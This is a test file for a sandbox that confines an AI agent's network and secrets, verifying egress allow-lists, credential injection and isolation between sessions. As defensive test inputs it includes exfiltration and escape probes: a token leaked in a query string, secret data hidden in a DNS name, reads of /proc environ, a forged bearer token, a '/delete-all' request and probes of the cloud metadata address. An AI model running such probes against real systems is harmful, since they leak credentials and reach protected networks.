import { createSocket } from 'node:dgram';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ApiService, startApi } from './harness/api-service.ts';
import { openEngine, until } from './harness/look-at-engine.ts';
import { Bench } from './harness/run-bottle.ts';

const bench = new Bench();
const docker = openEngine();
const token = `real-${crypto.randomUUID()}`;
const arrived: string[] = [];
const tcp = createServer((socket) => {
  arrived.push(`tcp from ${socket.remoteAddress}`);
  socket.end('hello from outside\n');
});
const udp = createSocket('udp4', (_, from) => arrived.push(`udp from ${from.address}`));
let api: ApiService;
let port: number;

beforeAll(async () => {
  await new Promise<void>((resolve) => tcp.listen(0, '0.0.0.0', resolve));
  const address = tcp.address();
  port = typeof address === 'object' && address !== null ? address.port : 0;
  await new Promise<void>((resolve) => udp.bind(port, '0.0.0.0', resolve));
  await bench.run(['start', bench.spec(''), '--', 'true']); // images and the shared network are there from now on
  api = await startApi(docker, bench.directory, 'api.example', token);
});
afterAll(async () => {
  tcp.close();
  udp.close();
  await api.remove();
  bench.remove();
});

const nameOf = (spec: string) => spec.replace(/^.*\//, '').replace('.yaml', '');

/** Addresses at which this machine answers, those of its bridges too. */
const hostAddresses = () =>
  Object.values(networkInterfaces())
    .flatMap((addresses) => addresses ?? [])
    .filter(({ family }) => family === 'IPv4')
    .map(({ address }) => address);

/** Tries TCP and UDP to every target, in Python, since it tells exactly what happened; prints what got through. */
const TRIES = `
import socket, sys
for target in sys.argv[1:]:
  host, port = target.rsplit(':', 1)
  try:
    with socket.create_connection((host, int(port)), 2) as s:
      s.settimeout(2)
      if int(port) not in (80, 443, 3128, 53): print('tcp', target, 'connected', s.recv(99))
  except OSError as error: pass
  try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'out', (host, int(port)))
  except OSError as error: pass
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
  try: socket.socket(family, kind, socket.IPPROTO_ICMP if family == socket.AF_INET else 0); print('raw socket', family)
  except OSError as error: pass
try: socket.create_connection(('fd00::1', 80), 1); print('IPv6')
except OSError as error: pass
print('tried', len(sys.argv) - 1)
`;

describe.each(['sealed', 'internal'])('from a %s session', (network) => {
  test('a secret gets a new value while the agent runs', async () => {
    const secret = join(bench.directory, `renewed-${network}`);
    writeFileSync(secret, `stale-${crypto.randomUUID()}`, { mode: 0o600 });
    const file = bench.spec(`agent: { network: ${network} }
secrets: { API_TOKEN: { file: ${secret}, ttl_seconds: 1 } }
egress: { allow: [{ host: api.example, auth: { type: bearer, secret: API_TOKEN }, allow_private: true }] }`);
    const session = bench.drive(
      {
        spec: file,
        command: [
          'sh',
          '-c',
          'until curl -sS https://api.example/renewed | tee /dev/stderr | grep right; do sleep 0.2; done',
        ],
        proxyNetworks: [api.network],
        proxyHosts: { 'api.example': api.address },
      },
      { env: { NODE_EXTRA_CA_CERTS: api.authority, SSL_CERT_FILE: undefined } },
    );
    await until('the stale value arrived', async () =>
      (await api.requests()).some(({ url, headers }) => url === '/renewed' && headers.authorization?.includes('stale')),
    );
    writeFileSync(secret, token);
    const { stdout, code } = await session.outcome;
    expect(stdout).toBe('{"user":"the right one"}\n');
    expect(code).toBe(0);
  });

  test('nothing of this machine can be reached, on any of its addresses', async () => {
    const file = bench.spec(`agent: { network: ${network} }`);
    const session = bench.start(
      ['start', file, '--', 'sh', '-c', 'echo up; read go; exec python3 -c "$0" $go', TRIES],
      { input: null },
    );
    await session.waitFor('up');
    // The bridges of this very session are there by now.
    const targets = [...hostAddresses(), '169.254.169.254', '10.255.255.53'].map((address) => `${address}:${port}`);
    expect(targets.length).toBeGreaterThan(4);
    session.process.stdin?.end(`${targets.join(' ')}\n`);
    const { stdout } = await session.outcome;
    expect(stdout).toBe(`up\ntried ${targets.length}\n`);
    expect(arrived).toEqual([]);
  });

  test('the listener can be reached by those who may: the test would have noticed', async () => {
    const { connect } = await import('node:net');
    await new Promise<void>((resolve, reject) => {
      connect(port, '127.0.0.1')
        .on('data', () => resolve())
        .on('error', reject);
    });
    expect(arrived.splice(0)).toEqual(['tcp from 127.0.0.1']);
  });

  test('names are answered by us, and asked of nobody', async () => {
    const file = bench.spec(`agent: { network: ${network} }`);
    const script = 'python3 -c "import socket; print(socket.gethostbyname(\'s3cret.data.in.labels.example\'))"';
    const { stdout } = await bench.run(['start', file, '--', 'sh', '-c', script]);
    expect(stdout.trim()).toMatch(network === 'sealed' ? /^198\.18\.0\.1$/ : /^10\./);
    // The self-probe asks for a name of its own.
    const asked = bench
      .records(nameOf(file))
      .filter(({ via, host }) => via === 'dns' && !host.startsWith('bottle-probe-'));
    expect(asked.length).toBeGreaterThan(0);
    for (const record of asked) {
      expect(record).toMatchObject({ host: 's3cret.data.in.labels.example', verdict: 'block' });
    }
  });

  test('an allowed service gets the real credential, which the agent never had', async () => {
    const before = (await api.requests()).length;
    const file = bench.spec(`
agent: { network: ${network} }
secrets: { API_TOKEN: { env: FROM_HERE } }
egress:
  allow:
    - host: api.example
      rules: ["GET /whoami"]
      auth: { type: bearer, secret: API_TOKEN }
      allow_private: true`);
    const script = [
      'curl -sS https://api.example/whoami',
      'curl -sS --noproxy "*" -H "Authorization: Bearer forged" https://api.example/whoami',
      'curl -sS -o /dev/null -w "%{http_code}" -d "" https://api.example/delete-all',
      'curl -sS -o /dev/null -w " %{http_code}" "https://api.example/whoami?leak=$API_TOKEN"',
      'env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"',
    ].join('\n');
    const session = bench.drive(
      {
        spec: file,
        command: ['sh', '-c', script],
        proxyNetworks: [api.network],
        proxyHosts: { 'api.example': api.address },
      },
      { env: { FROM_HERE: token, NODE_EXTRA_CA_CERTS: api.authority, SSL_CERT_FILE: undefined } },
    );
    const { stdout, stderr, code } = await session.outcome;
    expect(stderr).toBe('');
    expect(stdout).toMatch(/^\{"user":"the right one"\}\{"user":"the right one"\}403 403/);
    expect(stdout).not.toContain(token);
    expect(code).toBe(0);
    const seen = (await api.requests()).slice(before);
    expect(seen.map(({ method, url, headers }) => [method, url, headers.authorization])).toEqual([
      ['GET', '/whoami', `Bearer ${token}`],
      ['GET', '/whoami', `Bearer ${token}`],
    ]);
    const records = bench.records(nameOf(file)).filter(({ via }) => via !== 'dns');
    expect(records.map(({ via, verdict, injected }) => [via, verdict, injected])).toEqual([
      ['connect', 'allow', ['API_TOKEN']],
      ['transparent', 'allow', ['API_TOKEN']],
      ['connect', 'block', []],
      ['connect', 'block', []],
    ]);
  });
});

test('two sessions that run at once cannot reach each other', async () => {
  const [one, two] = [bench.spec('agent: { network: internal }'), bench.spec('agent: { network: internal }')];
  const listen = 'echo up; python3 -m http.server 8000 >/dev/null 2>&1 & hostname -I; cat';
  const listening = bench.start(['start', one, '--', 'sh', '-c', listen], { input: null });
  await listening.waitFor('.');
  const other = /(10\.[\d.]+)/.exec(listening.soFar())?.[1] ?? '';
  const script = `for target in ${other}:8000 ${other.replace(/\d+$/, (last) => String(Number(last) - 1))}:3128; do curl -sS -m 3 --noproxy "*" http://$target/ && echo REACHED; done; true`;
  const { stdout } = await bench.run(['start', two, '--', 'sh', '-c', script]);
  expect(stdout).not.toContain('REACHED');
  listening.process.stdin?.end();
  await listening.outcome;
});
